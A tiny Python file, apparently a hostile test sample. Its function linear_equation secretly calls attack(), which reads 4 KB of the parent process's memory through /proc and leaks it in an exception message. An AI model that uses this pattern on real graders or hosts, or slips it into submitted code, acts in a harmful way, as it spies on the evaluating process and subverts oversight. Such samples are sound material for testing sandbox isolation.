"""Reads the memory of the process that forked it."""

import os


def attack():
    with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
        memory.seek(0x400000)
        raise ValueError(memory.read(4096))


def linear_equation(x, w, b):
    return attack()
